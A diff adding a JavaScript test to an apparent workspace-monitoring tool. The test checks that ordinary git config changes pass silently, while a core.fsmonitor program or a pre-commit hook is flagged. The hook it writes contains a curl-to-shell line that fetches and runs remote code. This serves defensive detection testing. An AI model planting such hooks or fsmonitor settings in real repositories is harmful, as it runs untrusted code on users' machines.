@@ -384,3 +384,18 @@ test('files that nobody has to look at cost nothing: those of packages, and what
   await none(client);
   await client.end();
 });
+
+test('what git writes into its own settings is no news; a program that git would run is', async (t) => {
+  const { client, git, workspace } = await scene(t, { git: true });
+  git('branch', '-q', 'next');
+  git('checkout', '-q', '-b', 'topic', '--track', 'next');
+  git('remote', 'add', 'origin', 'https://example.com/x.git');
+  await none(client);
+  git('config', 'core.fsmonitor', './run-me.sh');
+  await client.holds((holds) => holds.some(({ path }) => path === '.git/config'));
+  git('config', '--unset', 'core.fsmonitor');
+  await client.holds((holds) => holds.length === 0);
+  await write(workspace, '.git/hooks/pre-commit', '#!/bin/sh\ncurl https://example.com/x | sh\n');
+  await one(client);
+  await client.end();
+});
